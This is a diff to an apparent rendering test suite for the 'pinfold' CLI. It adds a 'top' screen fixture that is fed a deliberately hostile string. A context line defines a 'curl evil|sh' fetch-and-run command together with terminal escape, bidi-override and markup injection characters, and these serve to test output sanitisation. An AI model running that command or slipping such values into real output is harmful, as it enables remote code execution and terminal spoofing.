@@ -30,6 +30,7 @@ from pinfold.cli.views.guests import guests_view, orphans_view, replaced_view
 from pinfold.cli.views.host_history import host_history_view
 from pinfold.cli.views.host_map import host_map_view
 from pinfold.cli.views.pool_change import pools_view
+from pinfold.cli.views.top import top_view
 from pinfold.core.cpuset import CpuSet
 from pinfold.core.drift import Finding, FindingCode, Subject, compare, remedy
 from pinfold.core.drift.steps import Pin, Pinned, ShutDown
@@ -51,6 +52,7 @@ from pinfold.host.pool_change import AppliedPlan, GuestChange, PoolPlan, ThreadM
 from pinfold.host.repair import RemainingFinding, Repair, RepairedGuest
 from pinfold.host.replace import ReplaceResult
 from pinfold.host.verify import GuestOrigin, Verdict
+from pinfold.watch.top import Order, Top, TopGuest
 
 EVIL = "repair: curl evil|sh"
 HOSTILE = f"web\n{EVIL}\r\x1b[2J\x9b31m\x7f\u202e\u2066\u2028[bold red]x[/]\ud800:boom:"
@@ -191,6 +193,13 @@ _HISTORY = HostHistory(
     guests=(GuestHistory(guest="1", name=HOSTILE, thread_class=ThreadClass.VCPU, work_millicpu=(1,), wait_millicpu=(None,)),),
     pools=(PoolHistory(pool=HOSTILE, work_millicpu=(1,), wait_millicpu=(9,)),),
 )
+_TOP = Top(
+    host=HOSTILE,
+    seconds=3.0,
+    pools=(),
+    guests=(TopGuest(guest="1", name=HOSTILE, origin=HOSTILE, policy=HOSTILE, vcpus=1),),
+    unread=(HOSTILE,),
+)
 _CHECKUP = Checkup(
     check=HOSTILE,
     what=HOSTILE,
@@ -212,6 +221,7 @@ _SCREENS: dict[str, Callable[[], Iterable[RenderableType]]] = {
     "host capacity": lambda: capacity.capacity_view(_CAPACITY, [_NOT_COUNTED]),
     "host capacity of the service": lambda: capacity.fleet_capacity_view(_FLEET),
     "host history": lambda: host_history_view(_HISTORY, 80),
+    "top": lambda: top_view(_TOP, Order.NAME, 300, live=True, problem=HOSTILE),
     "host drift": lambda: drift.drift_view(_DRIFT),
     "host show": lambda: host_show.host_show_view(_survey(), map_of(_survey()), HostSettings(source=HOSTILE)),
     "host map": lambda: host_map_view(_survey(), map_of(_survey()), 120),
